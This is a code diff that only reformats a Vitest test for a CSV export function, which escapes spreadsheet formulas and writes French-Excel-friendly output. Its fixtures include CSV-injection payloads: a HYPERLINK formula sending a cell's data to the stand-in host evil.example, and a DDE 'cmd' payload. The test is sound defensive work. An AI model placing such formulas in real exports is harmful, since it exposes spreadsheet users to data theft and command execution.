@@ -3,11 +3,20 @@ import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import { toCsv } from "~/modules/core/csv";
 
-const cells = (csv: string) => (Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { delimiter: ";" }).data[0] ?? []);
+const cells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { delimiter: ";" }).data[0] ?? [];
 
 describe("CSV cells", () => {
   it("turns every formula a spreadsheet would run into text", () => {
-    const live = ['=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")', "+33 6 12 34 56 78", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"];
+    const live = [
+      '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
+      "+33 6 12 34 56 78",
+      "-1+cmd|' /C calc'!A0",
+      "@SUM(A1:A9)",
+      "\t=1+1",
+      "\r=1+1",
+      "  =1+1",
+      "＝1+1",
+    ];
     const out = cells(toCsv([live], "fr"));
     expect(out).toHaveLength(live.length);
     out.forEach((cell, i) => expect(cell, JSON.stringify(live[i])).toBe(`'${live[i]}`));
@@ -20,7 +29,15 @@ describe("CSV cells", () => {
   });
 
   it("writes what French Excel opens: a BOM, ';' in French, ',' in English, CRLF lines", () => {
-    expect(toCsv([["a", "b"], ["c", "d"]], "fr")).toBe("\uFEFFa;b\r\nc;d");
+    expect(
+      toCsv(
+        [
+          ["a", "b"],
+          ["c", "d"],
+        ],
+        "fr",
+      ),
+    ).toBe("\uFEFFa;b\r\nc;d");
     expect(toCsv([["a", "b"]], "en")).toBe("\uFEFFa,b");
   });
 });
